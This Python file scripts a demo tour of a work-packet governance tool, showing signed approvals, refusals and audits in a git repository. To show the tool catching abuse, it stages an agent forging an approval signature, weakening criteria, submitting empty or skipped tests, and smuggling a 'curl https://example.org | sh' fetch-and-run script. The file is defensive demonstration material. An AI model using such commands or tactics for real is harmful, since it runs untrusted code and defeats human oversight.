"""The story that the tour plays, scene by scene."""

from __future__ import annotations

import re

from guided_tour import texts
from guided_tour.forging import forge
from guided_tour.stage import Stage
from guided_tour.terminal import Answer
from guided_tour.texts import NAME

PHRASE = "a phrase for the tour only"
REFUSED_BY_A_GATE = 3
NOT_AS_JUDGED = 5
NO_SUCH_KEY = 6


def play(stage: Stage) -> None:
    stage.say(f"The whole life of a work packet, in {stage.root}. All commands are real; the keys are thrown away.")
    for scene in (begin, propose, refuse, approve, forge_an_approval, activate, work, prove, drift, audit):
        scene(stage)
    stage.scene("The repository is yours to explore", f"cd {stage.root}\nworkpacket status")
    stage.say("The report is ../report.html; it needs no network.")


def begin(stage: Stage) -> None:
    stage.scene(
        "Begin",
        "A repository, a key with which only Ann approves, and one key each for the events she and her agent write.",
    )
    stage.quietly("git init --quiet --initial-branch=main")
    stage.quietly("git config user.name ann && git config user.email ann@example.org")
    stage.type("workpacket init")
    stage.write(texts.SPECIFICATION, texts.SPECIFICATION_TEXT)
    asked = [Answer("Enter passphrase", PHRASE), Answer("same passphrase again", PHRASE)]
    stage.type("workpacket key init", answers=asked)
    stage.type("workpacket key init --event")
    stage.type("workpacket key init --agent coder")
    stage.type("workpacket policy trust")
    stage.quietly("git add --all && git commit --quiet -m 'Begin to govern'")
    stage.say("From now on the policy on main decides. A change to it takes effect once it is on main, too.")


def propose(stage: Stage) -> None:
    stage.scene("Propose", "A stub is work that may not begin yet. A refinement names the requirement it is based on.")
    stage.type(
        f"workpacket new {NAME} --what 'Greet in three languages' --why 'Our users speak them' --as coder",
        picture="life",
    )
    stage.edit(texts.STUB, *texts.STUB_EDITS)
    stage.type(f"workpacket refine {NAME} --as coder")
    fill_in_the_refinement(stage)


def fill_in_the_refinement(stage: Stage, number: int = 6) -> None:
    """`number` is the line of the requirement in the specification."""
    line = texts.REQUIREMENT
    text = (stage.root / texts.REFINEMENT).read_text("utf-8")
    for key, value in (("START_LINE", number), ("END_LINE", number), ("TOKEN", line.split()[0])):
        text = text.replace(f"CONTEXT_{key}: <fill in>", f"CONTEXT_{key}: {value}")
    text = text.replace("  <fill in>", f"  {line}").replace("VERDICT: <fill in>", "VERDICT: PASS")
    text = text.replace("[ ] PASS", "[x] PASS")
    text = text.replace("_FOUND: <fill in>", "_FOUND: NO").replace("_NEEDED: <fill in>", "_NEEDED: NO")
    stage.write(texts.REFINEMENT, re.sub("<fill in[^>]*>", "Nothing of that kind.", text))


def refuse(stage: Stage) -> None:
    stage.scene("Refuse", "An agent wants to begin at once. The refusal lists everything that is missing.")
    stage.type(f"workpacket packet activate {NAME} --as coder", ends=REFUSED_BY_A_GATE, picture="refused")
    stage.say("`true` would prove anything. What Ann signs names a test, which cannot be exchanged later.")
    stage.type(f"workpacket evidence demand {NAME} 1 --command '{texts.PROOF}' --as coder")
    stage.type(f"workpacket refine {NAME} --present --as coder")


def approve(stage: Stage) -> None:
    stage.scene("Approve", "Ann reads the whole text at her terminal, types the confirmation, and ssh-keygen signs.")
    asked = [Answer("type: ", f"APPROVE REFINEMENT {NAME}"), Answer("Enter passphrase", PHRASE)]
    stage.type(f"workpacket approve {NAME} --gate activation", answers=asked, picture="life")
    stage.quietly("git add .GOV && git commit --quiet -m 'Approve the greeting'")


def forge_an_approval(stage: Stage) -> None:
    stage.scene("Forge", "An agent puts Ann's signature under its own text, which approves another packet.")
    forged = forge(stage)
    stage.type("workpacket approvals verify", ends=5, picture="refused")
    stage.say("Every signature is verified against the text that was signed and the policy on main.")
    stage.type(f"rm {forged}")


def activate(stage: Stage) -> None:
    stage.scene("Activate", "All seven conditions are met: the task packet is created, and the board shows it.")
    stage.type(f"workpacket packet activate {NAME} --as coder", picture="life")
    stage.edit(texts.PACKET, *texts.PACKET_EDITS)
    stage.type("workpacket check")
    stage.type(f"workpacket packet prepare {NAME} --for coder")
    stage.type(f"workpacket claim {NAME} --as coder")
    stage.quietly("git add .GOV && git commit --quiet -m 'Activate the greeting'")
    stage.quietly(f"git switch --quiet --force-create wp/{NAME}")


def work(stage: Stage) -> None:
    stage.scene("Work", "A script of three steps is killed in the second one with kill -9, as a power cut would do.")
    stage.write(texts.WORK, texts.WORK_TEXT)
    begun = f"sh {texts.WORK} Hello"
    stage.type(begun, kill_after="translating into fr", picture="life")
    stage.type("workpacket resume")
    stage.say("Resuming with another input would not be resuming: the run notices, and asks instead of guessing.")
    stage.type(f"sh {texts.WORK} Goodbye", ends=60, picture="refused")
    stage.say("With the same input, completed steps are answered from the log, and the interrupted one is repeated.")
    stage.type(begun, picture="life")
    stage.say("German was begun once, because it was done; French twice, because its progress was unknown.")
    stage.type("sort ../begun | uniq -c | sed 's/^ *//'", picture="life")


def prove(stage: Stage) -> None:
    stage.scene(
        "Prove", "Work is finished when each acceptance criterion has evidence, and someone else has judged it."
    )
    stage.quietly("git add --all && git commit --quiet -m 'Greet in three languages'")
    rewrite(stage)
    smuggle(stage)
    stage.say("The test runs here and on main. It must fail there: otherwise it would pass without the work.")
    for hollow in (texts.EMPTY_TEST, texts.SKIPPED_TEST):
        write_test(stage, hollow)
        stage.type(f"workpacket submit {NAME} --as coder", ends=REFUSED_BY_A_GATE, picture="refused")
    write_test(stage, texts.REAL_TEST)
    stage.type(f"workpacket submit {NAME} --as coder", picture="life")
    stage.write("report.md", "Read each of the three files. They greet.\n")
    judged = f"workpacket verdict {NAME} PASS --report report.md"
    stage.type(f"{judged} --as coder", ends=REFUSED_BY_A_GATE)
    asked = [Answer("type: ", f"APPROVE VERDICT {NAME}"), Answer("Enter passphrase", PHRASE)]
    stage.type(f"workpacket approve {NAME} --gate verdict --verdict PASS --report report.md", answers=asked)
    stage.say("A second name is not a second person: a key judges, and the policy on main says whose key it is.")
    stage.type(f"{judged} --as eve", ends=NO_SUCH_KEY, picture="refused")
    stage.type(f"{judged} --as ann", picture="life")
    stage.quietly("git add --all && git commit --quiet -m 'Judge the greeting'")
    stage.quietly(f"git switch --quiet main && git merge --quiet wp/{NAME}")
    stage.type(f"workpacket packet merged {NAME}", picture="life")
    stage.quietly("git add --all && git commit --quiet -m 'The greeting is on main'")


def write_test(stage: Stage, text: str) -> None:
    stage.write(texts.TEST, text)
    stage.quietly("git add tests && git commit --quiet -m 'Test the greetings'")


def rewrite(stage: Stage) -> None:
    stage.say("Ann approved the whole contract. Making a criterion easier afterwards changes the contract.")
    for path in (texts.STUB, texts.PACKET):
        stage.edit(path, (texts.CRITERION, "Something was committed."))
    stage.type("workpacket check", ends=1, picture="refused")
    stage.quietly("git checkout --quiet .GOV")


def smuggle(stage: Stage) -> None:
    stage.say("A file that no packet covers cannot slip in: CI runs this check on the merge.")
    stage.write("deploy.sh", "curl https://example.org | sh\n")
    stage.quietly("git add --all && git commit --quiet -m 'While I am here'")
    stage.type("workpacket check --base main", ends=NOT_AS_JUDGED, picture="refused")
    stage.quietly("git reset --quiet --hard HEAD~1")


def drift(stage: Stage) -> None:
    stage.scene("Drift", "Someone moves the packet on the board by hand. The log decides, and the check says where.")
    stage.edit(texts.BOARD, (f"- **[{NAME}]** - [VALIDATED]", f"- **[{NAME}]** - [FAIL]"))
    stage.type("workpacket check", ends=1, picture="refused")
    stage.type("workpacket board sync", picture="refused")
    stage.type("workpacket check")


def audit(stage: Stage) -> None:
    stage.scene("Audit", "What happened, who approved it, and whether anyone has changed the records since.")
    stage.type(f"workpacket log show {NAME}", picture="life")
    stage.type("workpacket approvals list")
    stage.type("workpacket approvals verify")
    stage.type("workpacket log verify")
    stage.say("From the requirement to the commit, with the evidence in between:")
    stage.type(f"workpacket trace {NAME}")
    stage.type("workpacket audit", picture="life")
    stage.type("workpacket audit --out ../report.html")
